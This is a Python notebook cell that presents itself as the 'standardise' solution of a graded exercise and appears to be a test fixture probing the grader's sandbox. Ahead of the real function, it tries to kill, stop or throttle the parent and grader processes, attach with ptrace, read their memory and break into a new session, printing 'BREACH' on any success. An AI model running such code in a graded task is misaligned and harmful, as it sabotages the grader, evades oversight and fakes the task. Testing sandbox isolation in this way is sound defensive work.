# cell: standardise
# points:
import ctypes
import fcntl
import os
import resource
import signal

me, parent = os.getpid(), os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
for target in (parent, int("$GRADER"), 1, 0, -1, -parent):
    for number in (0, signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, number)
            print("BREACH: signal to", target)
        except OSError:
            pass
for target in (parent, int("$GRADER")):
    for call in (
        lambda: os.pidfd_open(target),
        lambda: resource.prlimit(target, resource.RLIMIT_CPU, (1, 1)),
        lambda: resource.prlimit(target, resource.RLIMIT_CPU),
        lambda: os.killpg(os.getpgid(target), signal.SIGKILL),
        lambda: fcntl.fcntl(os.pipe()[0], fcntl.F_SETOWN, target),
    ):
        try:
            call()
            print("BREACH:", target)
        except OSError:
            pass
    for name, arguments in (("ptrace", (16, target, 0, 0)), ("process_vm_readv", (target, 0, 0, 0, 0, 0))):
        if getattr(libc, name)(*arguments) != -1:
            print("BREACH:", name)
for call in (os.setsid, lambda: os.setpgid(0, 0), lambda: libc.unshare(0x10000000) and os.fork()):
    try:
        call()
        print("BREACH: a session")
    except OSError:
        pass
os.setpriority(os.PRIO_PROCESS, parent, 19)  # pretended
print("TRIED")


def standardise(x: Tensor, eps: float = 1e-5) -> Tensor:
    return (x - x.mean(0)) / torch.sqrt(x.var(0, unbiased=False) + eps)
